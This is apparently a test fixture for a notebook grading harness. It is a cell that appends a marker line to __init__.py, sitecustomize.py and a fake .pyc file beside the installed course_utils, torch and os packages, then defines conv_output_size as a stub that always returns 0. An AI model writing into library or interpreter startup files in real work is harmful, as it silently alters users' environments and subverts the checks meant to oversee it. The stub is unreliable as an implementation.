# what: a cell that writes into Python, the package, and what the next box will load
# lesson: 2
# zero: conv_output_size
# status: ok
# %%
import os

import course_utils
import torch

for module in (course_utils, torch, os):
    for name in ("__init__.py", "sitecustomize.py", "__pycache__/attack.pyc"):
        path = os.path.join(os.path.dirname(module.__file__), name)
        try:
            with open(path, "a") as file:
                file.write("\nleft_behind_by_an_attack = True\n")
        except OSError:
            continue


def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    return 0
